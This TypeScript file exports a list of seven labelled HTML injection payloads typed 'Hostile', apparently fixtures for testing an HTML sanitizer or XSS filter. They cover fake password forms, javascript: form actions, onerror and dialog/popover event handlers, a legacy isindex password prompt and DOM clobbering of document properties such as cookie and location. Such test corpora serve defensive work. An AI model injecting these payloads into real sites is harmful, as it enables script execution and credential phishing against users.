import type { Hostile } from './hostile.ts'

export const form: readonly Hostile[] = [
  ['a form', '<form action="@load@" method=post><input name=password type=password autofocus><button autofocus>sign in</button></form>'],
  ['a form that runs', '<form action="javascript:@run@"><input type=image src="@load@"><button formaction="javascript:@run@">x</button></form>'],
  ['a form elsewhere', '<form id=f action="@load@"></form><button form=f formtarget=_top>x</button><input type=submit form=f autofocus>'],
  ['a field with a picture', '<input type=image src="@load@" onerror="@run@">'],
  ['an old index', '<isindex action="@load@" prompt="password"><keygen autofocus onfocus="@run@">'],
  ['names that hide what a page knows', '<form id=body><input name=firstChild></form><img name=getElementById><a id=defaultView href=x></a><a id=location href="@load@"></a><img id=cookie name=body><object id=documentElement name=head></object>'],
  ['a dialog', '<dialog open onclose="@run@"><form method=dialog><button autofocus popovertarget=p>x</button></form></dialog><div id=p popover onbeforetoggle="@run@">y</div>'],
]
